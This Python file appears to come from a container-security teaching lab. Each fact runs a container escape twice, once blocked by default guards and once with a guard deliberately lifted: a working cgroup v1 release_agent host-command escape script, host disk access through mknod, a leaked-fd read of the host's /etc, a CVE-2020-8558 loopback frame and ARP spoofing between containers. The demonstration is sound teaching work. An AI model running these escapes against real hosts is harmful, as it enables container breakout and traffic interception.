"""Stage 9 facts: each escape, blocked by a default container and working
when the guard in its way is turned off on purpose.

Root in a container is root on the host's kernel; what stops it is what it
is allowed (labkit/security/defaults.py). Each fact runs the same command twice, as
a student would type it, once by default and once with the switch that
lifts one guard, and holds when the first fails and the second succeeds:

    mount               a filesystem mounted       CAP_SYS_ADMIN (--cap-add SYS_ADMIN)
    /proc/sys           a sysctl written           read-only paths (--privileged)
    unshare -U          a user namespace made      seccomp (seccomp=unconfined)
    mknod + open        a disk read by its node    the device cgroup (--privileged)
    release_agent       a host command run         all of them (--privileged, cgroup v1)
    a leaked fd         the host's /etc read       fds closed (labkit-runtime --preserve-fds)
    a raw frame         the host's 127.0.0.1       the input chain's drop (nft flush chain ...)

and one hole Docker leaves open, shown the other way round: by default a
container answers ARP for its gateway and takes a neighbour's traffic;
--cap-drop NET_RAW stops it.

The commands shown to the student are the ones that run (``shell``).
"""

import contextlib
import json
import os
import shlex
import socket
import subprocess
import tempfile
import time

from labkit import api
from labkit.i18n import _
from labkit.course.facts import fact, lines

LAYER = "9 security"
PRIVILEGED = ["--privileged"]


def shell_line(cmd, extra=()):
    """What a student types for ``labkit run`` of ``cmd`` with ``extra``."""
    return "sudo labkit " + shlex.join(api.run_args(cmd, extra=list(extra)))


def attempt(name, check, cmd, works, guard_off, **extra):
    """Run ``cmd`` by default and with ``guard_off``; ``works(result)`` says
    whether the escape succeeded. Holds when only the second one did."""
    default = api.run(cmd)
    lifted = api.run(cmd, extra=guard_off)
    return fact(name, LAYER, check, _seen(default), _seen(lifted),
                not works(default) and works(lifted),
                shell=[shell_line(cmd), shell_line(cmd, guard_off)], **extra)


def _seen(result):
    """What a student would read: the output, else the first line of the error."""
    return result.stdout.strip() or (result.stderr.strip().splitlines() or [""])[0].strip()


MOUNT = "mount -t tmpfs lab-sec /mnt && echo mounted"
PROC_SYS = "echo lab > /proc/sys/kernel/domainname && cat /proc/sys/kernel/domainname"
USERNS = "unshare -U true && echo unshared"


def mount():
    return attempt("sec_mount", _("mount(2) needs CAP_SYS_ADMIN, which a default container lacks"),
                   MOUNT, lambda r: "mounted" in r.stdout, ["--cap-add", "SYS_ADMIN"])


def proc_sys():
    return attempt("sec_proc_sys", _("/proc/sys is read-only inside (a sysctl there is the host kernel's)"),
                   PROC_SYS, lambda r: r.stdout.strip() == "lab", PRIVILEGED)


def userns_seccomp():
    return attempt("sec_seccomp_userns", _("seccomp refuses unshare of a user namespace"),
                   USERNS, lambda r: "unshared" in r.stdout, ["--security-opt", "seccomp=unconfined"])


# -- devices ------------------------------------------------------------------

def host_disk():
    """Whether root on this host may read the disk its / is on through a
    node of its own: the escape a device cgroup exists for. Some hosts (a
    sandboxed VM) refuse even their own root; then a loop device stands in."""
    dev = os.stat("/").st_dev
    major, minor = os.major(dev), os.minor(dev)
    with tempfile.TemporaryDirectory(prefix="lab-disk-") as d:
        node = os.path.join(d, "disk")
        os.mknod(node, 0o060600, os.makedev(major, minor))
        try:
            os.close(os.open(node, os.O_RDONLY))
            readable = True
        except OSError as e:
            readable = os.strerror(e.errno)
    return fact("sec_host_disk", LAYER, _("can root on the host read its own disk by a device node?"),
                None, f"b {major}:{minor}: " + ("readable" if readable is True else readable),
                True, readable=readable is True, major=major, minor=minor)


class LoopDisk:
    """A loop device over a small file that starts with ``marker``: a disk
    of the host's, made for the lesson (losetup(8)), detached at the end."""

    def __init__(self, marker="HOST-DISK-SECRET"):
        self.marker = marker
        self.device = None

    def __enter__(self):
        fd, self.image = tempfile.mkstemp(prefix="lab-disk-", suffix=".img")
        os.write(fd, self.marker.encode() + b"\0" * (64 * 1024 - len(self.marker)))
        os.close(fd)
        r = subprocess.run(["losetup", "--find", "--show", self.image], capture_output=True, text=True)
        if r.returncode != 0:
            os.unlink(self.image)
            raise RuntimeError(f"losetup: {r.stderr.strip()}")
        self.device = r.stdout.strip()
        rdev = os.stat(self.device).st_rdev
        self.major, self.minor = os.major(rdev), os.minor(rdev)
        return self

    def __exit__(self, *exc):
        if self.device:
            subprocess.run(["losetup", "--detach", self.device], capture_output=True)
        os.unlink(self.image)


def device_cgroup():
    """mknod of a host disk works by default (CAP_MKNOD is one of the 14);
    opening the node is what the device cgroup refuses. Where the host has
    no loop device (a user-mode Linux), /dev/kmsg stands in: opening it for
    writing needs no capability, only the cgroup's leave."""
    try:
        disk = LoopDisk().__enter__()
    except (RuntimeError, OSError):
        disk = None
    try:
        if disk is not None:
            cmd = (f"mknod /dev/lab-disk b {disk.major} {disk.minor} && echo made; "
                   f"head -c {len(disk.marker)} /dev/lab-disk")
            proof, device = disk.marker, disk.device
        else:
            cmd = "mknod /dev/lab-kmsg c 1 11 && echo made; (exec 3>/dev/lab-kmsg) && echo opened"
            proof, device = "opened", "/dev/kmsg"
        default, lifted = api.run(cmd), api.run(cmd, extra=PRIVILEGED)
    finally:
        if disk is not None:
            disk.__exit__(None, None, None)
    return fact("sec_device_cgroup", LAYER, _("a node for a host device can be made, never opened"),
                _seen(default), lifted.stdout.strip(),
                "made" in default.stdout and proof not in default.stdout and proof in lifted.stdout,
                shell=[shell_line(cmd), shell_line(cmd, PRIVILEGED)], device=device)


# -- cgroup v1's release_agent -------------------------------------------------

RELEASE_AGENT = """d=/tmp/cg; mkdir -p $d && mount -t cgroup -o freezer lab-cg $d && mkdir -p $d/lab-escape &&
echo 1 > $d/lab-escape/notify_on_release &&
upper=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -1) &&
: > /escaped && printf '#!/bin/sh\\nhostname > %s/escaped\\n' "$upper" > /agent && chmod +x /agent &&
echo "$upper/agent" > $d/release_agent &&
sh -c "echo \\$\\$ > $d/lab-escape/cgroup.procs" &&
for i in 1 2 3 4 5 6 7 8 9 10; do [ -s /escaped ] && break; sleep 0.2; done;
echo "the agent wrote: $(cat /escaped)";
echo > $d/release_agent; rmdir $d/lab-escape; umount $d"""
FREEZER_AGENT = "/sys/fs/cgroup/freezer/release_agent"


def release_agent():
    """cgroup v1 runs a hierarchy's release_agent, as root on the host, when
    a cgroup of it empties. A container that may mount the hierarchy and
    write that file runs what it likes on the host: here `hostname`, whose
    answer (the host's name) it reads back. Needs every guard off; there is
    no release_agent in cgroup v2."""
    if not os.path.exists(FREEZER_AGENT):
        return fact("sec_release_agent", LAYER, _("cgroup v1 release_agent runs a host command"),
                    None, "no cgroup v1 freezer hierarchy here (cgroup v2 has no release_agent)", True,
                    applies=False)
    with open(FREEZER_AGENT) as f:
        before = f.read()
    try:
        default, lifted = api.run(RELEASE_AGENT), api.run(RELEASE_AGENT, extra=PRIVILEGED)
    finally:
        with open(FREEZER_AGENT, "w") as f:       # whatever the container did, the host's value back
            f.write(before or "\n")
    host = os.uname().nodename

    def wrote(r):
        return r.stdout.strip().rpartition("the agent wrote: ")[2]
    return fact("sec_release_agent", LAYER, _("cgroup v1 release_agent runs a host command"),
                wrote(default) or (default.stderr.strip().splitlines() or [""])[0], lifted.stdout.strip(),
                wrote(default) != host and wrote(lifted) == host, applies=True, host=host,
                shell=[shell_line(RELEASE_AGENT, PRIVILEGED)])


# -- file descriptors ----------------------------------------------------------

@contextlib.contextmanager
def _bundle(args, edit=None):
    """A bundle whose root is the shared base rootfs itself, read-only (as
    `runc spec` has it): nothing is copied, and nothing can be written to it."""
    import json
    from labkit.images import builder
    from labkit.course.conformance import bundles
    with tempfile.TemporaryDirectory(prefix="lab-sec-") as d:
        cfg = bundles.default_config(args)
        cfg["root"] = {"path": builder.resolve("base"), "readonly": True}
        if edit:
            edit(cfg)
        bundle = os.path.join(d, "bundle")
        os.mkdir(bundle)
        with open(os.path.join(bundle, "config.json"), "w") as f:
            json.dump(cfg, f, indent=1)
        yield bundle, os.path.join(d, "state")


def _runtime_line(root, bundle, cid, preserve=0, runtime="labkit-runtime"):
    extra = f" --preserve-fds {preserve}" if preserve else ""
    return f"exec 3</etc; {runtime} --root {root} run{extra} --bundle {bundle} {cid}"


def leaked_fd():
    """A directory fd of the host's (/etc, as fd 3) reaches a container only
    when the caller passes it on purpose (runc's --preserve-fds); then
    /proc/self/fd/3 is the host's /etc. The CVE-2024-21626 class."""
    from labkit.course.conformance import observe
    rt = observe.runtime("labkit")
    exe = shlex.join(rt.argv)
    host = open("/etc/hostname").read().strip() if os.path.exists("/etc/hostname") else None
    seen = {}
    with _bundle(["cat", "/proc/self/fd/3/hostname"]) as (bundle, root):
        for preserve in (0, 1):
            line = _runtime_line(root, bundle, f"lab-fd-{os.getpid()}-{preserve}", preserve, exe)
            r = subprocess.run(["sh", "-c", line], capture_output=True, text=True, timeout=60)
            seen[preserve] = (r.stdout.strip() or r.stderr.strip()), line
    return fact("sec_leaked_fd", LAYER, _("a host directory fd reaches the container only when passed on purpose"),
                seen[0][0], seen[1][0], seen[0][0] != host and seen[1][0] == host,
                shell=["sudo sh -c " + shlex.quote(seen[p][1].replace(exe, "labkit-runtime")) for p in (0, 1)],
                host_hostname=host)


def cwd_outside():
    """process.cwd under /proc/self/fd is refused before the process starts
    (runc 1.1.12's fix), even with the fd passed."""
    from labkit.course.conformance import observe
    rt = observe.runtime("labkit")
    with _bundle(["true"], lambda cfg: cfg["process"].update(cwd="/proc/self/fd/3")) as (bundle, root):
        line = _runtime_line(root, bundle, f"lab-cwd-{os.getpid()}", 1, shlex.join(rt.argv))
        r = subprocess.run(["sh", "-c", line], capture_output=True, text=True, timeout=60)
    message = r.stderr.strip().splitlines()[-1:] or [""]
    return fact("sec_cwd_refused", LAYER, _("a working directory that resolves outside the rootfs is refused"),
                message[0], None, r.returncode != 0 and "cwd" in message[0])


# -- capabilities and the side-by-side table -----------------------------------

PROBE = "; ".join([
    "echo caps=$(grep CapEff: /proc/self/status | cut -f2)",
    "echo seccomp=$(grep Seccomp: /proc/self/status | cut -f2)",
    "echo no_new_privs=$(grep NoNewPrivs: /proc/self/status | cut -f2)",
    "mount -t tmpfs lab-sec /mnt 2>/dev/null && echo mount=yes || echo mount=no",
    "(echo lab > /proc/sys/kernel/domainname) 2>/dev/null && echo proc_sys=yes || echo proc_sys=no",
    "unshare -U true 2>/dev/null && echo userns=yes || echo userns=no",
    "mknod /dev/lab-loop b 7 0 2>/dev/null && echo mknod=yes || echo mknod=no",
    "(exec 3</dev/lab-loop) 2>/dev/null && echo open_disk=yes || echo open_disk=no",
])
COLUMNS = ("labkit run", "labkit run --privileged", "runc, its default spec")


def _parse(text):
    return dict(line.split("=", 1) for line in lines(text) if "=" in line)


def decode(mask):
    """The capability names of a CapEff mask, as `capsh --decode` prints them."""
    from labkit.linux.process import capability_names
    return capability_names(mask)


def side_by_side():
    """The same probe under labkit's default, labkit --privileged and runc's
    default spec (`runc spec`): the guards each one keeps."""
    import shutil
    cols = {COLUMNS[0]: _parse(api.run(PROBE).stdout),
            COLUMNS[1]: _parse(api.run(PROBE, extra=PRIVILEGED).stdout)}
    if shutil.which("runc"):
        with _bundle(["sh", "-c", PROBE]) as (bundle, root):
            r = subprocess.run(["runc", "--root", root, "run", "--bundle", bundle, f"lab-sbs-{os.getpid()}"],
                               capture_output=True, text=True, timeout=60)
            cols[COLUMNS[2]] = _parse(r.stdout)
    default, priv = cols[COLUMNS[0]], cols[COLUMNS[1]]
    ok = (default.get("caps") == "00000000a80425fb" and default.get("seccomp") == "2"
          and all(default.get(k) == "no" for k in ("mount", "proc_sys", "userns", "open_disk"))
          and default.get("mknod") == "yes"
          and priv.get("seccomp") == "0" and all(priv.get(k) == "yes" for k in ("mount", "proc_sys", "userns")))
    return fact("sec_side_by_side", LAYER, _("which guards each default keeps"), default, cols.get(COLUMNS[2]), ok,
                columns=cols, default_caps=decode(default.get("caps", "0")),
                privileged_caps=len(decode(priv.get("caps", "0"))))


def capabilities():
    """The 14 of Docker's default decoded by capsh(8), beside every capability."""
    default = _parse(api.run(PROBE).stdout)["caps"]
    priv = _parse(api.run(PROBE, extra=PRIVILEGED).stdout)["caps"]
    r = subprocess.run(["capsh", f"--decode={default}"], capture_output=True, text=True)
    by_capsh = r.stdout.strip().partition("=")[2].split(",") if r.returncode == 0 else None
    from labkit.security.defaults import DEFAULT_CAPABILITIES
    names = decode(default)
    return fact("sec_capabilities", LAYER, _("a default container keeps Docker's 14 capabilities"),
                names, decode(priv), sorted(names) == sorted(DEFAULT_CAPABILITIES)
                and (by_capsh is None or sorted(n.upper() for n in by_capsh) == sorted(names))
                and len(decode(priv)) > len(names), mask=default, capsh=by_capsh)


REMAP = ["--userns", "remap"]
MKNOD = "mknod /tmp/lab-kmsg c 1 11 && echo made"


def userns_remap():
    """--userns remap: root inside is an unprivileged uid of the host; even
    --privileged then holds every capability over its own namespace only,
    and no device (mknod) is that namespace's to grant."""
    with api.Container("sleep 60", extra=REMAP) as c:
        inside = c.exec("id -u; cat /proc/self/uid_map").stdout.split()
        with open(f"/proc/{c.pid}/status") as f:
            host_uid = next(line.split()[1] for line in f if line.startswith("Uid:"))
    privileged = api.run(MKNOD, extra=PRIVILEGED).stdout.strip()
    remapped = api.run(MKNOD, extra=PRIVILEGED + REMAP)
    return fact("sec_userns_remap", LAYER, _("root inside is an unprivileged user outside"),
                f"uid {inside[0]}, uid_map {' '.join(inside[1:4])}", f"uid {host_uid}",
                inside[0] == "0" and host_uid != "0" and privileged == "made" and "made" not in remapped.stdout,
                host_uid=int(host_uid), mknod_privileged=privileged, mknod_remapped=_seen(remapped),
                shell=[shell_line("id -u; cat /proc/self/uid_map", REMAP), shell_line(MKNOD, PRIVILEGED + REMAP)])


# -- the network: hand-made frames on the bridge ------------------------------

NET = "lab09-net"
FLUSH = "sudo nft flush chain ip labkit input"


@contextlib.contextmanager
def _network():
    api.call(["network", "create", NET], check=True)
    try:
        yield
    finally:
        api.call(["network", "rm", NET])


def _on_net(c):
    """(ip, mac, gateway) of container ``c`` on NET."""
    net = json.loads(api.call(["network", "inspect", NET], check=True).stdout)[0]
    ep = net["Containers"][c.id]
    return ep["IPv4Address"].split("/")[0], ep["MacAddress"], net["IPAM"]["Config"][0]["Gateway"]


def _sent(pid, frame):
    """frames.send_from, and what it said when the kernel refused."""
    from labkit.networks import frames
    r = frames.send_from(pid, frame)
    return r.returncode == 0, (r.stderr.strip().splitlines() or [""])[-1]


def loopback(payload=b"hello from the container"):
    """CVE-2020-8558: published ports answer on 127.0.0.1 because the bridge
    routes to loopback (route_localnet=1), so a frame to the bridge's MAC
    with 127.0.0.1 as its destination would reach a host service that
    listens on 127.0.0.1 only. The input chain drops it; flushed, it passes;
    refreshed, the guard is back."""
    from labkit.networks import endpoints, firewall, frames
    with _network(), api.Container("sleep 60", network=NET) as c:
        ip, mac, gateway = _on_net(c)
        listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        listener.bind(("127.0.0.1", 0))      # a service that believes itself private
        listener.settimeout(1.0)             # the bound for "nothing came"
        frame = frames.udp(mac, frames.gateway_mac(gateway), ip, "127.0.0.1", listener.getsockname()[1],
                           payload)

        def deliver():
            sent, why = _sent(c.pid, frame)
            if not sent:
                return f"not sent: {why}"
            try:
                data, source = listener.recvfrom(100)
            except socket.timeout:
                return None
            return f"{data.decode()!r} from {source[0]}"
        try:
            default = deliver()
            subprocess.run(FLUSH.split()[1:], check=True, capture_output=True)
            try:
                lifted = deliver()
            finally:
                endpoints.refresh()
        finally:
            listener.close()
        back = "127.0.0.0/8" in firewall.listing()
    return fact("sec_loopback", LAYER, _("a container's frame to the host's 127.0.0.1 is dropped (CVE-2020-8558)"),
                default or _("nothing reached the host's socket"), lifted or _("nothing reached the host's socket"),
                default is None and lifted is not None and lifted.endswith(f"from {ip}") and back,
                guard_back=back, container_ip=ip,
                shell=[f"sudo labkit network create {NET}", f"sudo labkit run -d --network {NET} -- sleep 60",
                       FLUSH, f"sudo labkit network rm {NET}"])


def _neighbour(c, ip):
    """The MAC container ``c`` has for ``ip`` (ip neigh), or None."""
    words = c.exec(f"ip neigh show {ip}").stdout.split()
    return words[words.index("lladdr") + 1] if "lladdr" in words else None


def arp_spoof(bound=10.0):
    """ARP has no authentication: with CAP_NET_RAW (Docker's default keeps
    it) a container tells a neighbour "the gateway is at my MAC", and the
    neighbour's traffic to everywhere else comes to it. Docker leaves this
    open; the guard is --cap-drop NET_RAW (Kubernetes' restricted profile
    drops it): then no packet socket opens at all."""
    from labkit.networks import frames
    with _network(), api.Container("sleep 60", network=NET) as victim, \
            api.Container("sleep 60", network=NET) as spoofer, \
            api.Container("sleep 60", network=NET, extra=["--cap-drop", "NET_RAW"]) as careful:
        v_ip, v_mac, gateway = _on_net(victim)
        victim.exec(f"ping -c 1 -W 1 {gateway}")          # the victim learns the gateway's MAC
        before = _neighbour(victim, gateway)
        careful_mac = _on_net(careful)[1]
        refused, why = _sent(careful.pid, frames.arp_reply(careful_mac, v_mac, gateway, v_ip))
        s_mac = _on_net(spoofer)[1]
        lie = frames.arp_reply(s_mac, v_mac, gateway, v_ip)
        # The kernel keeps a fresh entry for a second (locktime): say it again until it is taken.
        end, taken, tries = time.monotonic() + bound, None, 0
        while time.monotonic() < end:
            tries += 1
            _sent(spoofer.pid, lie)
            taken = _neighbour(victim, gateway)
            if taken == s_mac:
                break
            time.sleep(0.2)
    ok = before == frames.gateway_mac(gateway) and not refused and "Operation not permitted" in why \
        and taken == s_mac
    return fact("sec_arp_spoof", LAYER,
                _("with CAP_NET_RAW a container takes its gateway's address; --cap-drop NET_RAW stops it"),
                _("the victim's gateway {gw} is at {mac} (the spoofer's) after {n} tries", gw=gateway, mac=taken,
                  n=tries),
                _("with --cap-drop NET_RAW: {why}", why=why), ok,
                gateway=gateway, gateway_mac=before, spoofer_mac=s_mac, tries=tries,
                shell=[f"sudo labkit run -d --network {NET} -- sleep 60",
                       f"sudo labkit run -d --network {NET} --cap-drop NET_RAW -- sleep 60",
                       f"sudo labkit exec VICTIM ip neigh show {gateway}"])


def all_facts():
    """`labkit tour security`: each guard of a default container, and that
    lifting it (on purpose) opens the escape it stops."""
    return [mount(), proc_sys(), userns_seccomp(), device_cgroup(), release_agent(), leaked_fd(),
            cwd_outside(), capabilities(), userns_remap(), side_by_side()]
